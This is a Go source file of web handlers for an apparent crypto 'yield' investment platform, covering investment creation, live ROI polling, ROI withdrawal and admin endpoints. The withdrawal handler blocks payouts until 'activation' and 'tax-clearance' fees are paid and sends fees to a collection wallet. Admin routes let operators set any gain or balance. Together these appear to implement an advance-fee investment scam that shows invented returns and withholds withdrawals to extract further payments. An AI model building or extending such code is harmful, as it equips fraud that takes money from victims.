package handler

import (
	"fmt"
	"net/http"
	"strconv"
	"time"

	"github.com/gin-gonic/gin"

	"yieldapp/internal/database"
	"yieldapp/internal/middleware"
	"yieldapp/internal/model"
	"yieldapp/internal/yield"
)

// CreateInvestment handles investment creation requests
func (h *Handler) CreateInvestment(c *gin.Context) {
	var req model.CreateInvestmentRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		badRequest(c, "invalid request body")
		return
	}

	plan, ok := h.config.InvestmentPlans[req.Plan]
	if !ok {
		badRequest(c, "invalid investment plan")
		return
	}
	if req.Amount < plan.MinAmount {
		badRequest(c, fmt.Sprintf("minimum amount for this plan is %.2f", plan.MinAmount))
		return
	}

	userID := middleware.UserID(c)
	investment, err := h.db.CreateInvestment(userID, req.Plan, req.Amount)
	if err != nil {
		respondError(c, err)
		return
	}

	c.JSON(http.StatusCreated, model.Response{
		Success: true,
		Data: gin.H{
			"investment":     investment,
			"weekly_percent": plan.WeeklyPercent,
			"lock_period":    plan.LockPeriod,
		},
	})
}

// GetInvestment handles investment snapshot requests; clients poll this for
// the live accrued ROI.
func (h *Handler) GetInvestment(c *gin.Context) {
	investment, plan, err := h.ownedInvestment(c)
	if err != nil {
		respondError(c, err)
		return
	}

	now := time.Now()
	c.JSON(http.StatusOK, model.Response{
		Success: true,
		Data: gin.H{
			"investment":  investment,
			"accrued_roi": yield.AccruedROI(investment, plan, now),
			"locked":      yield.Locked(investment, plan, now),
			"plan":        plan,
		},
	})
}

type withdrawROIRequest struct {
	Currency string `json:"currency"`
	Network  string `json:"network"`
}

// WithdrawROI handles ROI withdrawal attempts. Outstanding activation or
// tax-clearance fees block the withdrawal: the response then carries the fee
// requirements instead of a new record.
func (h *Handler) WithdrawROI(c *gin.Context) {
	investment, plan, err := h.ownedInvestment(c)
	if err != nil {
		respondError(c, err)
		return
	}

	var req withdrawROIRequest
	if c.Request.ContentLength > 0 {
		if err := c.ShouldBindJSON(&req); err != nil {
			badRequest(c, "invalid request body")
			return
		}
	}
	if req.Currency == "" {
		req.Currency = "USDT"
	}
	if req.Network == "" {
		req.Network = "TRC20"
	}

	userID := middleware.UserID(c)
	activation, err := h.db.OutstandingFee(userID, model.FeeActivation)
	if err != nil {
		respondError(c, err)
		return
	}
	taxClearance, err := h.db.OutstandingFee(userID, model.FeeTaxClearance)
	if err != nil {
		respondError(c, err)
		return
	}
	if activation != nil || taxClearance != nil {
		c.JSON(http.StatusOK, model.Response{
			Success: false,
			Error:   "outstanding fees must be paid before ROI withdrawal",
			Data: gin.H{
				"activation_fee":    requirement(activation),
				"tax_clearance_fee": requirement(taxClearance),
			},
		})
		return
	}

	now := time.Now()
	if yield.Locked(investment, plan, now) {
		respondError(c, database.ErrInvestmentLocked)
		return
	}

	accrued := yield.AccruedROI(investment, plan, now)
	if accrued <= 0 {
		respondError(c, database.ErrInsufficientROI)
		return
	}

	feeAmount := yield.NetworkFeeQuote(accrued, h.config.Fees)
	withdrawal, err := h.db.CreateROIWithdrawal(investment, accrued, req.Currency, req.Network, feeAmount, h.config.Fees.CollectionWallet)
	if err != nil {
		respondError(c, err)
		return
	}

	h.notifier.Send("ROI withdrawal %s: %.2f %s from investment %d",
		withdrawal.ID, withdrawal.Amount, withdrawal.Currency, investment.ID)

	c.JSON(http.StatusCreated, model.Response{
		Success: true,
		Data:    model.NewWithdrawalView(*withdrawal, h.config.Fees.CollectionWallet),
	})
}

func requirement(f *model.FeeAssessment) model.FeeRequirement {
	if f == nil {
		return model.FeeRequirement{}
	}
	return model.FeeRequirement{
		Required: true,
		Amount:   f.Amount,
		Reason:   f.Reason,
	}
}

// ownedInvestment loads the :id investment and checks it belongs to the
// authenticated user. A foreign investment reads as not found.
func (h *Handler) ownedInvestment(c *gin.Context) (*model.Investment, model.InvestmentPlanConfig, error) {
	id, err := strconv.ParseInt(c.Param("id"), 10, 64)
	if err != nil {
		return nil, model.InvestmentPlanConfig{}, database.ErrInvestmentNotFound
	}

	investment, err := h.db.GetInvestment(id)
	if err != nil {
		return nil, model.InvestmentPlanConfig{}, err
	}
	if investment.UserID != middleware.UserID(c) {
		return nil, model.InvestmentPlanConfig{}, database.ErrInvestmentNotFound
	}

	plan, ok := h.config.InvestmentPlans[investment.Plan]
	if !ok {
		// A plan removed from config still pays nothing but must not 500.
		plan = model.InvestmentPlanConfig{}
	}
	return investment, plan, nil
}

// AdminSetAdjustment handles admin gain/loss corrections on an investment.
func (h *Handler) AdminSetAdjustment(c *gin.Context) {
	id, err := strconv.ParseInt(c.Param("id"), 10, 64)
	if err != nil {
		badRequest(c, "invalid investment ID")
		return
	}

	var req model.AdjustmentRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		badRequest(c, "invalid request body")
		return
	}

	if err := h.db.SetAdjustedGain(id, req.AdjustedGain); err != nil {
		respondError(c, err)
		return
	}

	investment, err := h.db.GetInvestment(id)
	if err != nil {
		respondError(c, err)
		return
	}

	if err := h.db.AddAdminAdjustmentOperation(investment.UserID, req.AdjustedGain,
		fmt.Sprintf("Admin adjustment on investment %d", id)); err != nil {
		respondError(c, err)
		return
	}

	c.JSON(http.StatusOK, model.Response{
		Success: true,
		Data:    investment,
	})
}

// AdminUpdateUserBalance handles user balance updates (admin only)
func (h *Handler) AdminUpdateUserBalance(c *gin.Context) {
	userID, err := strconv.Atoi(c.Param("id"))
	if err != nil {
		badRequest(c, "invalid user ID")
		return
	}

	var req model.UpdateBalanceRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		badRequest(c, "invalid request body")
		return
	}

	if err := h.db.UpdateUserBalance(userID, req.Balance); err != nil {
		respondError(c, err)
		return
	}

	if err := h.db.AddAdminAdjustmentOperation(userID, req.Balance,
		fmt.Sprintf("Admin set balance to %.2f", req.Balance)); err != nil {
		respondError(c, err)
		return
	}

	c.JSON(http.StatusOK, model.Response{
		Success: true,
		Data: gin.H{
			"user_id": userID,
			"balance": req.Balance,
		},
	})
}

// AdminCreateUser handles user creation (admin only; accounts are opened out
// of band on this platform).
func (h *Handler) AdminCreateUser(c *gin.Context) {
	var req struct {
		PubKey string `json:"pub_key" binding:"required"`
	}
	if err := c.ShouldBindJSON(&req); err != nil {
		badRequest(c, "invalid request body")
		return
	}

	user, err := h.db.CreateUser(req.PubKey)
	if err != nil {
		respondError(c, err)
		return
	}

	c.JSON(http.StatusOK, model.Response{
		Success: true,
		Data:    user,
	})
}
